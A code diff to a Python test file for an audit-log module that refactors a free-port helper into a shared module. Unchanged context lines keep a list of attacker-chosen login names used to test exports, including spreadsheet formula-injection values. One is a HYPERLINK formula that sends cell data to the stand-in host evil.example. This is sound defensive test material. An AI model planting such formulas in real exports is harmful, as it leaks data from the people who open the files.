@@ -7,7 +7,6 @@ from __future__ import annotations
 import asyncio
 import os
 import signal
-import socket
 import subprocess
 import sys
 import time
@@ -19,6 +18,7 @@ import pytest
 from sqlalchemy import select
 from sqlalchemy.exc import DataError, InterfaceError, InternalError, OperationalError
 
+from tests.ports import free_port as _free_port
 from tests.waiting import until
 from xueliang.access.audit import AuditLog, CheckpointKey, verify
 from xueliang.db.engine import create_engine, session_factory
@@ -27,12 +27,6 @@ from xueliang.db.tables import AuditRecord
 KEY_HEX = "5e" * 32
 #: Attacker-chosen user names of failed logins (they reach the audit, and its exports).
 NAMES = ["nobody", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "@SUM(1)", "-2+3"]
-
-
-def _free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return int(s.getsockname()[1])
 
 
 def _src_dir() -> str:
